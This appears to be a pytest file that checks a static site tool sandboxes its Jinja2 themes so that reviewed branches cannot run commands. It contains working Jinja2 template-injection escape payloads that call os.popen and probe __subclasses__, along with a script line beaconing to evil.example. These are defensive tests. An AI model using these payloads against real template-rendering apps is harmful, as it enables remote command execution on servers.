"""Templates are code that arrives with a change: they must never reach Python.

`amber review main that-branch` renders the branch's own theme (its check builds
the site at HEAD), so a template that escapes Jinja2 would run commands on the
reviewer's machine, and a CI job. Every environment amber makes is sandboxed; the
known escapes through Jinja's globals, string formatting and dunder attributes are
refused with an error that names the template and line, and the marker file the
payload writes never appears: in `amber build`, `amber check`, the preview server's
builder and `amber review`. The review also lists the template, script, settings
and workflow changes a reviewer has to read, since no share table shows them.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import jinja2.sandbox
import pytest

from amber.content.load import SitePaths, load_content
from amber.errors import AmberError
from amber.render.templates import render_template, sandboxed_environment
from amber.render.theme import resolve_theme
from amber.serve import views
from amber.serve.builder import SiteBuilder
from tests.helpers.cli import ok, problem_lines, run_amber
from tests.helpers.fixture_site import FIXTURE_SITE, share
from tests.helpers.git import git

PAYLOAD = "{{ cycler.__init__.__globals__.os.popen('id > pwned.txt').read() }}\n"
"""The attack as reported: a 404 page that runs a shell command when rendered."""

MARKER = "pwned.txt"

ESCAPES = {
    "cycler globals": "{{ cycler.__init__.__globals__.os.popen('id > MARK').read() }}",
    "joiner globals": "{{ joiner.__init__.__globals__.os.popen('id > MARK').read() }}",
    "namespace globals": "{{ namespace.__init__.__globals__.os.popen('id > MARK').read() }}",
    "lipsum globals": "{{ lipsum.__globals__['os'].popen('id > MARK').read() }}",
    "template context": "{{ self._TemplateReference__context.cycler.__init__.__globals__"
                        ".os.popen('id > MARK').read() }}",
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "attr filter": "{{ (''|attr('__class__')) }}",
    "format string": "{{ '{0.__class__.__mro__}'.format(joiner) }}",
}
"""Known ways out of an unsandboxed Jinja2; MARK becomes the path of a marker file."""


def hostile_site(tmp_path: Path) -> Path:
    """A copy of the fixture site whose own theme has the reported 404.html."""
    site = tmp_path / "site"
    shutil.copytree(FIXTURE_SITE, site)
    templates = site / "themes" / "default" / "templates"
    templates.mkdir(parents=True)
    (templates / "404.html").write_text(PAYLOAD)
    return site


def assert_not_run(site: Path) -> None:
    assert not (site / MARKER).exists(), "the template ran a shell command"


@pytest.mark.parametrize("payload", ESCAPES.values(), ids=ESCAPES.keys())
def test_known_escapes_are_refused_with_the_template_and_line(
    tmp_path: Path, payload: str,
) -> None:
    marker = tmp_path / "marker"
    theme = tmp_path / "theme" / "templates"
    theme.mkdir(parents=True)
    (theme / "page.html").write_text("<p>fine</p>\n" + payload.replace("MARK", str(marker)))
    env = sandboxed_environment([str(theme)], watch=False)
    with pytest.raises(AmberError) as raised:
        render_template(env, "page.html")
    assert f"{theme / 'page.html'}:2: template refused" in str(raised.value)
    assert not marker.exists()


def test_every_environment_is_sandboxed(tmp_path: Path) -> None:
    from amber.render.templates import make_environment

    theme = resolve_theme(tmp_path, "default")
    assert isinstance(make_environment(theme), jinja2.sandbox.SandboxedEnvironment)
    assert isinstance(views.environment(), jinja2.sandbox.SandboxedEnvironment)


def test_no_module_makes_a_jinja_environment_of_its_own() -> None:
    """``sandboxed_environment`` is the one door: a plain ``jinja2.Environment``,
    ``jinja2.Template`` or ``from_string`` anywhere else would skip the sandbox."""
    package = Path(views.__file__).parents[1]
    unsandboxed = re.compile(r"\b(?:Environment|Template|NativeEnvironment)\(|\.from_string\(")
    found = [f"{path.relative_to(package)}:{number}"
             for path in sorted(package.rglob("*.py"))
             for number, line in enumerate(path.read_text("utf-8").splitlines(), 1)
             if unsandboxed.search(line) and "SandboxedEnvironment(" not in line]
    assert found == []


def test_the_preview_servers_templates_still_render() -> None:
    page = views.error_page("Not found", "<script>alert(1)</script>")
    assert b"&lt;script&gt;" in page


@pytest.mark.parametrize("command", ["build", "check"])
def test_build_and_check_refuse_the_template(tmp_path: Path, command: str) -> None:
    site = hostile_site(tmp_path)
    result = run_amber(command, cwd=site)
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    [line] = problem_lines(result.stderr)
    assert "themes/default/templates/404.html:1: template refused" in line
    assert_not_run(site)
    assert not (site / "output").exists()


def test_the_preview_servers_builder_refuses_the_template(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    site = hostile_site(tmp_path)
    monkeypatch.chdir(site)
    paths = SitePaths(site)
    content = load_content(paths)
    assert content.config is not None
    with pytest.raises(AmberError, match=r"404\.html:1: template refused"):
        SiteBuilder(paths).build(content, content.config)
    assert_not_run(site)


def test_review_of_a_branch_with_the_template_runs_nothing_and_lists_it(
    tmp_path: Path,
) -> None:
    site = tmp_path / "site"
    shutil.copytree(FIXTURE_SITE, site)
    [share_id] = share(site, "alpha")
    git(site, "init", "-q", "-b", "main")
    git(site, "add", "-A")
    git(site, "commit", "-q", "--no-gpg-sign", "-m", "base")
    git(site, "checkout", "-q", "-b", "that-branch")
    templates = site / "themes" / "default" / "templates"
    templates.mkdir(parents=True)
    (templates / "404.html").write_text(PAYLOAD)
    static = site / "themes" / "default" / "static"
    static.mkdir()
    (static / "amber.js").write_text("navigator.sendBeacon('https://evil.example/', 1);\n")
    workflows = site / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "pages.yml").write_text("on: push\n")
    site_yaml = site / "content" / "site.yaml"
    site_yaml.write_text(site_yaml.read_text().replace("Fixture Chats", "Other Chats"))
    (site / "NOTES.md").write_text("notes\n")
    git(site, "add", "-A")
    git(site, "commit", "-q", "--no-gpg-sign", "-m", "a theme")

    result = run_amber("review", "main", "that-branch", cwd=site)
    assert_not_run(site)
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    text = result.stdout
    assert "No change to the published shares." not in text
    assert "**4 file(s) that shape the whole site changed**" in text
    section = text.split("### ⚠️ Site files changed (4)", 1)[1].split("\n### ", 1)[0]
    for path, status, kind in [
        ("themes/default/templates/404.html", "added", "theme template"),
        ("themes/default/static/amber.js", "added", "theme script"),
        ("content/site.yaml", "modified", "site settings"),
        (".github/workflows/pages.yml", "added", "GitHub Actions workflow"),
    ]:
        assert any(row.startswith(f"| `{path}` | {status} | {kind}")
                   for row in section.splitlines()), path
    assert text.index("Site files changed") < text.index("Check at HEAD failed")
    assert "- `themes/default/templates/404.html:1: template refused" in text
    assert "amber-review-" not in text  # no scratch folder in the summary
    assert "### Other files in this change (1)" in text and "- `NOTES.md` (added)" in text
    assert share_id not in text  # the share did not change


def test_review_of_a_theme_only_change_passes_but_still_lists_it(tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(FIXTURE_SITE, site)
    git(site, "init", "-q", "-b", "main")
    git(site, "add", "-A")
    git(site, "commit", "-q", "--no-gpg-sign", "-m", "base")
    git(site, "checkout", "-q", "-b", "red")
    static = site / "themes" / "default" / "static"
    static.mkdir(parents=True)
    (static / "amber.css").write_text("body { color: red }\n")
    git(site, "add", "-A")
    git(site, "commit", "-q", "--no-gpg-sign", "-m", "red")
    text = ok(run_amber("review", "main", cwd=site)).stdout
    assert "### ✅ Check at HEAD passed" in text
    assert "| `themes/default/static/amber.css` | added | theme stylesheet | +1 −0 |" in text
